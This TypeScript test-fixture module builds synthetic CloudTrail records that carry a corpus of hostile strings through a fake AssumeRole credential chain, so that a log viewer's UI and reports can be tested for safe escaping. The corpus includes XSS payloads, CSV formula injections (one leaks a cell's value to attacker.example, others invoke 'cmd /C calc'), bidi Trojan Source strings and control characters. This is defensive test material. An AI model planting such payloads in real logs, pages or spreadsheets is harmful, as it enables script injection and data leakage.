/**
 * The hostile-input corpus: strings an attacker who can write CloudTrail records (or who chose a user agent, a
 * session name, a request parameter, a tag, an error message) would plant, and CloudTrail records that carry them
 * through a real credential chain (an STS AssumeRole with a hostile session name, role and tags, then calls made
 * with the key it issued), so they reach every view: the event table, the chain graph, the detail pane, the raw
 * record, and the HTML/CSV/JSON reports.
 *
 * One data module for every test of it: the report tests (test/engine/report/hostile-report.test.ts), the UI spec
 * (test/ui/hostile.spec.ts) and the demo bundle (demo/make-demo.mjs writes these records into
 * demo/bundle/extra/). It lives with the generator because the demo script imports it from the build.
 *
 * Markup payloads set `window.__pwned` if they ever run, so a test can tell.
 */
import { createHash } from 'node:crypto';

export interface HostileString {
  id: string;
  value: string;
  /** What it attacks. */
  what: string;
  /** Starts a CSV cell that a spreadsheet would evaluate (OWASP CSV injection). */
  csvFormula?: boolean;
  /** Holds characters that must be shown as escapes (bidi overrides, NUL, other controls). */
  invisible?: boolean;
}

export const HOSTILE: readonly HostileString[] = [
  { id: 'script', value: '<script>window.__pwned="script"</script>', what: 'a script element' },
  { id: 'img-onerror', value: '<img src=x onerror="window.__pwned=\'img\'">', what: 'an event handler on a broken image' },
  { id: 'svg-onload', value: '<svg onload="window.__pwned=\'svg\'"><circle r="1"/></svg>', what: 'an inline SVG with an onload handler' },
  { id: 'javascript-url', value: 'javascript:window.__pwned="url"', what: 'a javascript: URL (were it ever used as a link)' },
  { id: 'anchor-javascript', value: '<a href="javascript:window.__pwned=\'a\'">open console</a>', what: 'a link with a javascript: URL' },
  { id: 'iframe-srcdoc', value: '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe>', what: 'a frame with its own document' },
  { id: 'beacon', value: '<img src="http://127.0.0.1:9/beacon?from=podtrail">', what: 'a network request (a beacon)' },
  { id: 'style-import', value: '<style>@import url("http://127.0.0.1:9/css");body{display:none}</style>', what: 'a stylesheet that loads and hides' },
  { id: 'attr-break', value: '" autofocus onfocus="window.__pwned=\'attr\'" x="', what: 'breaking out of an attribute' },
  { id: 'template', value: '{{constructor.constructor("window.__pwned=\'tpl\'")()}} ${7*7}', what: 'template injection' },
  { id: 'csv-equals', value: '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")', what: 'a CSV formula (=)', csvFormula: true },
  { id: 'csv-plus', value: "+cmd|' /C calc'!A0", what: 'a CSV formula (+)', csvFormula: true },
  { id: 'csv-minus', value: "-2+3+cmd|' /C calc'!A0", what: 'a CSV formula (-)', csvFormula: true },
  { id: 'csv-at', value: "@SUM(1+9)*cmd|' /C calc'!A0", what: 'a CSV formula (@)', csvFormula: true },
  { id: 'csv-tab', value: '\t=1+1', what: 'a CSV formula behind a tab', csvFormula: true, invisible: true },
  { id: 'csv-cr', value: '\r=1+1', what: 'a CSV formula behind a carriage return', csvFormula: true, invisible: true },
  { id: 'bidi-rlo', value: 'report\u202Efdp.exe', what: 'a right-to-left override (shows as "reportexe.pdf")', invisible: true },
  { id: 'bidi-isolate', value: 'access\u2067\u2066 if (isAdmin) \u2069\u2069 granted', what: 'bidi isolates (Trojan Source)', invisible: true },
  { id: 'bidi-marks', value: 'payments\u200F-api\u200E\u061C', what: 'right-to-left and Arabic letter marks', invisible: true },
  { id: 'zero-width', value: 'pay\u200Bments\u200D-api\uFEFF', what: 'zero-width characters (a look-alike name)', invisible: true },
  { id: 'nul', value: 'before\u0000after', what: 'a NUL byte', invisible: true },
  { id: 'controls', value: 'bell\u0007 escape\u001b[31m red\u009b31m', what: 'C0 and C1 control characters (terminal escapes)', invisible: true },
];

/** 1 MiB: the size of the one huge field (a user agent, an error code). */
export const HUGE_FIELD_BYTES = 1024 * 1024;

/** A 1 MiB ASCII field: markup repeated, with a readable start and end. */
export function hugeField(): string {
  const head = 'HUGE-FIELD-START ';
  const tail = ' HUGE-FIELD-END';
  const unit = '<script>window.__pwned="huge"</script><img src=x onerror="window.__pwned=\'huge\'">';
  const body = unit.repeat(Math.ceil(HUGE_FIELD_BYTES / unit.length)).slice(0, HUGE_FIELD_BYTES - head.length - tail.length);
  return head + body + tail;
}

/** Who makes the hostile AssumeRole: an existing session's `userIdentity` (its key becomes the chain's root). */
export interface HostileContext {
  accountId: string;
  region: string;
  /** ISO time of the AssumeRole; the calls follow one second apart. */
  startTime: string;
  /** Source address of the calls (an attacker's). */
  sourceIPAddress: string;
  /**
   * The caller of the AssumeRole. Default: an IAM user whose ARN carries a hostile name (so the chain's root, the
   * principal, is hostile too).
   */
  caller?: Record<string, unknown>;
  /** Seed for the record ids (different bundles, different ids). */
  label?: string;
}

export interface HostileEvent {
  eventID: string;
  /** The corpus entry it carries (`huge` for the 1 MiB one). */
  hostile: string;
}

export interface HostileBundle {
  /** The AssumeRole first, then one call per corpus entry, then the huge one. */
  records: Record<string, unknown>[];
  assumeRole: { eventID: string; roleArn: string; sessionName: string; accessKeyId: string };
  events: HostileEvent[];
  /** The call whose user agent and error code are 1 MiB each. */
  hugeEventID: string;
  /** The IAM user name used when no caller is given. */
  callerUserName: string;
}

/** Where each string goes in a call record. */
export const PLACED_IN = ['userAgent', 'sourceIPAddress', 'errorCode', 'errorMessage', 'requestParameters', 'tags'] as const;

function uuidFrom(label: string): string {
  const h = createHash('sha256').update(label).digest('hex');
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
}

function keyFrom(prefix: string, label: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  const h = createHash('sha256').update(label).digest();
  return prefix + Array.from(h.subarray(0, 16), (b) => alphabet[b % 32]).join('');
}

const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');

const SESSION_NAME = '<script>window.__pwned="session"</script><img src=x onerror="window.__pwned=\'session\'">';
const ROLE_NAME = '<img src=x onerror="window.__pwned=\'role\'">';
const USER_NAME = '=HYPERLINK("http://attacker.example/")<script>window.__pwned="user"</script>';

/**
 * The records: an AssumeRole (made by `caller`, or by a hostile-named IAM user) into a role with a hostile name,
 * hostile session name and hostile session tags, then, signed with the key it issued, one call per corpus string
 * carrying it as user agent, source address, error code, error message, request parameter and tag value, then
 * one call with a 1 MiB user agent and error code.
 */
export function hostileRecords(ctx: HostileContext): HostileBundle {
  const label = ctx.label ?? 'podtrail-hostile';
  const t0 = Date.parse(ctx.startTime);
  if (!Number.isFinite(t0)) throw new Error(`hostileRecords: bad startTime ${ctx.startTime}`);
  const roleArn = `arn:aws:iam::${ctx.accountId}:role/${ROLE_NAME}`;
  const accessKeyId = keyFrom('ASIA', `${label}-key`);
  const callerKey = keyFrom('AKIA', `${label}-user-key`);
  const caller = ctx.caller ?? {
    type: 'IAMUser',
    principalId: keyFrom('AIDA', `${label}-user`),
    arn: `arn:aws:iam::${ctx.accountId}:user/${USER_NAME}`,
    accountId: ctx.accountId,
    accessKeyId: callerKey,
    userName: USER_NAME,
  };
  const base = {
    eventVersion: '1.08',
    awsRegion: ctx.region,
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ctx.accountId,
    eventCategory: 'Management',
  };
  const assumeRoleID = uuidFrom(`${label}-assume-role`);
  const roleId = keyFrom('AROA', `${label}-role`);
  const assumeRole = {
    ...base,
    userIdentity: caller,
    eventTime: iso(t0),
    eventSource: 'sts.amazonaws.com',
    eventName: 'AssumeRole',
    sourceIPAddress: ctx.sourceIPAddress,
    userAgent: HOSTILE.find((h) => h.id === 'img-onerror')!.value,
    requestParameters: {
      roleArn,
      roleSessionName: SESSION_NAME,
      durationSeconds: 3600,
      tags: HOSTILE.map((h) => ({ key: `podtrail-${h.id}`, value: h.value })),
      transitiveTagKeys: ['podtrail-script'],
    },
    responseElements: {
      credentials: { accessKeyId, sessionToken: `IQoJb3JpZ2luX2VjE${keyFrom('', `${label}-token`)}`, expiration: iso(t0 + 3600_000) },
      assumedRoleUser: { assumedRoleId: `${roleId}:${SESSION_NAME}`, arn: `arn:aws:sts::${ctx.accountId}:assumed-role/${ROLE_NAME}/${SESSION_NAME}` },
      packedPolicySize: 12,
    },
    requestID: uuidFrom(`${label}-assume-role-request`),
    eventID: assumeRoleID,
    resources: [{ accountId: ctx.accountId, type: 'AWS::IAM::Role', ARN: roleArn }],
  };
  const session = {
    type: 'AssumedRole',
    principalId: `${roleId}:${SESSION_NAME}`,
    arn: `arn:aws:sts::${ctx.accountId}:assumed-role/${ROLE_NAME}/${SESSION_NAME}`,
    accountId: ctx.accountId,
    accessKeyId,
    sessionContext: {
      sessionIssuer: { type: 'Role', principalId: roleId, arn: roleArn, accountId: ctx.accountId, userName: ROLE_NAME },
      attributes: { creationDate: iso(t0), mfaAuthenticated: 'false' },
    },
  };
  const call = (i: number, hostile: string, value: string) => {
    const eventID = uuidFrom(`${label}-call-${hostile}`);
    return {
      eventID,
      record: {
        ...base,
        readOnly: true,
        userIdentity: session,
        eventTime: iso(t0 + 1000 * (i + 1)),
        eventSource: 's3.amazonaws.com',
        eventName: 'GetObject',
        sourceIPAddress: value,
        userAgent: value,
        errorCode: value,
        errorMessage: value,
        requestParameters: { bucketName: 'evidence-locker', key: value, 'x-amz-tagging': value, Tagging: { TagSet: [{ Key: 'note', Value: value }] } },
        responseElements: null,
        additionalEventData: { hostile, note: value },
        requestID: uuidFrom(`${label}-call-request-${hostile}`),
        eventID,
        resources: [{ type: 'AWS::S3::Object', ARN: `arn:aws:s3:::evidence-locker/${value}` }],
      } as Record<string, unknown>,
    };
  };
  const calls = HOSTILE.map((h, i) => ({ ...call(i, h.id, h.value), hostile: h.id }));
  const huge = hugeField();
  const hugeCall = call(HOSTILE.length, 'huge', 'huge');
  Object.assign(hugeCall.record, { userAgent: huge, errorCode: huge, sourceIPAddress: ctx.sourceIPAddress, errorMessage: 'the user agent and the error code are 1 MiB each' });
  return {
    records: [assumeRole, ...calls.map((c) => c.record), hugeCall.record],
    assumeRole: { eventID: assumeRoleID, roleArn, sessionName: SESSION_NAME, accessKeyId },
    events: [...calls.map((c) => ({ eventID: c.eventID, hostile: c.hostile })), { eventID: hugeCall.eventID, hostile: 'huge' }],
    hugeEventID: hugeCall.eventID,
    callerUserName: USER_NAME,
  };
}
